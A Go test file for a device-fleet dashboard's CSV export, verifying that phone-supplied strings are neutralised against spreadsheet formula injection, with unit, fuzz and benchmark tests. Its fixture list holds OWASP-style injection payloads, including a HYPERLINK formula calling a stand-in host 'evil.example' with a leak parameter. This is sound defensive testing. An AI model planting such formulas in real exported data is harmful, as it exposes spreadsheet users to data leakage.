package dashboard

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/tanjay-lab/tanjay/appliance/store"
)

func TestNeutralizeCell(t *testing.T) {
	for _, tc := range []struct{ name, in, want string }{
		{"empty", "", ""},
		{"serial", "SN00001", "SN00001"},
		{"version", "1.0.522.103", "1.0.522.103"},
		{"time", "2026-11-27T10:00:00Z", "2026-11-27T10:00:00Z"},
		{"formula", `=HYPERLINK("http://evil.example/","x")`, `'=HYPERLINK("http://evil.example/","x")`},
		{"plus", "+1", "'+1"},
		{"minus", "-2+3", "'-2+3"},
		{"negative number is prefixed too (OWASP)", "-5", "'-5"},
		{"at", "@SUM(1)", "'@SUM(1)"},
		{"tab", "\t=1", "'\t=1"},
		{"carriage return", "\r=1", "'\r=1"},
		{"lone tab", "\tabc", "'\tabc"},
		{"spaces then formula", "  =1", "'  =1"},
		{"line feed then formula", "\n=1", "'\n=1"},
		{"formula inside", "a=1", "a=1"},
		{"quote first", `'=1`, `'=1`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := neutralizeCell(tc.in); got != tc.want {
				t.Errorf("neutralizeCell(%q) = %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}

// payloads are the OWASP examples an anonymous phone can send.
var payloads = []string{`=HYPERLINK("http://evil.example/?leak","click")`, "+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "x;=1+1", "y\t@SUM(1)", `"=1"`, "a,b", "line\nbreak"}

func TestAppendCSVRecordReadsBack(t *testing.T) {
	line := appendCSVRecord(nil, payloads)
	got, err := csv.NewReader(bytes.NewReader(line)).Read()
	if err != nil {
		t.Fatalf("encoding/csv cannot read %q: %v", line, err)
	}
	var want []string
	for _, p := range payloads {
		want = append(want, neutralizeCell(p))
	}
	// encoding/csv turns \r\n inside a quoted field into \n; none here.
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("read back (-want +got):\n%s", diff)
	}
	for _, cell := range got {
		if strings.ContainsAny(cell[:1], "=+-@\t\r") {
			t.Errorf("cell %q starts a formula", cell)
		}
	}
}

// TestSemicolonAndTabCellsAreQuoted: a spreadsheet set to ";" or tab as the
// separator must not find a formula at the start of any cell it splits.
func TestSemicolonAndTabCellsAreQuoted(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"x;=1+1", `"x;=1+1"`},
		{"y\t@SUM(1)", "\"y\t@SUM(1)\""},
		{"plain", "plain"},
		{" lead", `" lead"`},
	} {
		if got := string(appendCSVRecord(nil, []string{tc.in})); got != tc.want+"\n" {
			t.Errorf("record of %q = %q, want %q", tc.in, got, tc.want+"\n")
		}
	}
}

func TestExportNeutralisesPhoneStrings(t *testing.T) {
	e := newEnv(t, nil)
	at := time.Date(2026, 11, 27, 10, 0, 0, 0, time.UTC)
	for i, p := range payloads {
		e.st.Observe(store.Event{Kind: store.EventCheckIn, Time: at, IP: fmt.Sprintf("10.0.1.%d", i+2), MAC: mac(100 + i), Serial: p, DevicePath: cx700, Reported: beta})
	}
	resp, body := e.client(t).get("/export/fleet.csv")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("export: %s", resp.Status)
	}
	records, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("encoding/csv cannot read the export: %v\n%s", err, body)
	}
	serials := map[string]string{}
	for _, r := range records[1:] {
		serials[r[1]] = r[2]
		for _, cell := range r {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
				t.Errorf("row %s: cell %q starts a formula", r[0], cell)
			}
		}
	}
	for i, p := range payloads {
		if got, want := serials[mac(100+i)], neutralizeCell(p); got != want {
			t.Errorf("serial %q exported as %q, want %q", p, got, want)
		}
	}
}

func FuzzAppendCSVRecord(f *testing.F) {
	for _, p := range payloads {
		f.Add(p, "SN1")
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		line := appendCSVRecord(nil, []string{a, b})
		got, err := csv.NewReader(bytes.NewReader(line)).Read()
		if err != nil {
			t.Fatalf("encoding/csv cannot read %q: %v", line, err)
		}
		// encoding/csv reads \r\n inside a quoted field as \n.
		want := []string{neutralizeCell(a), neutralizeCell(b)}
		for i := range want {
			want[i] = strings.ReplaceAll(want[i], "\r\n", "\n")
		}
		if !cmp.Equal(want, got) {
			t.Fatalf("record %q read back as %q, want %q", line, got, want)
		}
		for _, cell := range got {
			if t2 := strings.TrimLeft(cell, " \t\r\n"); t2 != "" && strings.ContainsAny(t2[:1], "=+-@") && cell[0] != '\'' {
				t.Fatalf("cell %q starts a formula", cell)
			}
		}
	})
}

// BenchmarkCSVRecord compares the export's writer with encoding/csv (the
// baseline it replaced) on rows shaped like fleet.csv's.
func BenchmarkCSVRecord(b *testing.B) {
	row := []string{"0004F2000001", "0004F2000001", "SN00001", "10.0.0.3", "UCPhone/Polycom/CX700/A/ENU", "1.0.199.0", "3.5.6907.200",
		"3.5.6907.200", "done", "", "2026-11-27T10:00:00Z", "2026-11-27T12:00:00Z", "3", "1.0.199.0", "2026-11-27T10:00:00Z",
		"1.0.522.103", "2026-11-27T11:00:00Z", "3.5.6907.200", "2026-11-27T12:00:00Z"}
	b.Run("encoding-csv", func(b *testing.B) {
		var buf bytes.Buffer
		w := csv.NewWriter(&buf)
		for b.Loop() {
			buf.Reset()
			w.Write(row)
			w.Flush()
		}
	})
	b.Run("appendCSVRecord", func(b *testing.B) {
		var buf bytes.Buffer
		var line []byte
		for b.Loop() {
			buf.Reset()
			line = appendCSVRecord(line[:0], row)
			buf.Write(line)
		}
	})
}
